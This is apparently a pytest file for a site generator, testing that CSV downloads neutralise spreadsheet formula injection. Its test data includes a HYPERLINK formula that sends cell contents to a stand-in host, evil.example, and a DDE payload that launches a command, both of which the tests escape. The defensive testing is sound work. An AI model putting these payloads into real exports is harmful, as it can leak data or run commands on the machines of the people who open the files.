"""Data downloads a spreadsheet opens: no cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from helpers import build_site, make_project

from lwsite.features.downloads import cell

C = "schools/oak/cycles/2025-10-14-talk"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_run_is_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", [3, -3, 0.5, "-3", "+4", "12", "-0.5", "50%", "Plain words", "", None])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert cell(value) == ("" if value is None else value)


def test_every_csv_of_a_build_neutralises_formulas(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p")
    actions = project / "content" / C / "actions.yml"
    text = actions.read_text(encoding="utf-8")
    text = text.replace(
        "action: Model partner-talk stems in grade 3-5 PLCs",
        'action: "=HYPERLINK(\\"http://evil.example\\",\\"Stems\\")"',
    )
    text = text.replace("measure: Stems heard in half the visits", 'measure: "@SUM(1)"')
    text = text.replace("outcome: Stems heard in 2 of 3 visits", "outcome: \"-2+3+cmd|' /C calc'!A0\"")
    actions.write_text(text, encoding="utf-8")
    result = build_site(project, "team")
    assert result.returncode == 0, result.stdout + result.stderr
    rows = list(csv.DictReader(io.StringIO((project / "site" / "downloads" / "actions.csv").read_text())))
    step = next(r for r in rows if r["id"] == "stems")
    assert step["action"] == '\'=HYPERLINK("http://evil.example","Stems")'
    assert step["measure"] == "'@SUM(1)" and step["outcome"].startswith("'-2+3")
    for path in (project / "site" / "downloads").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), (path.name, value)
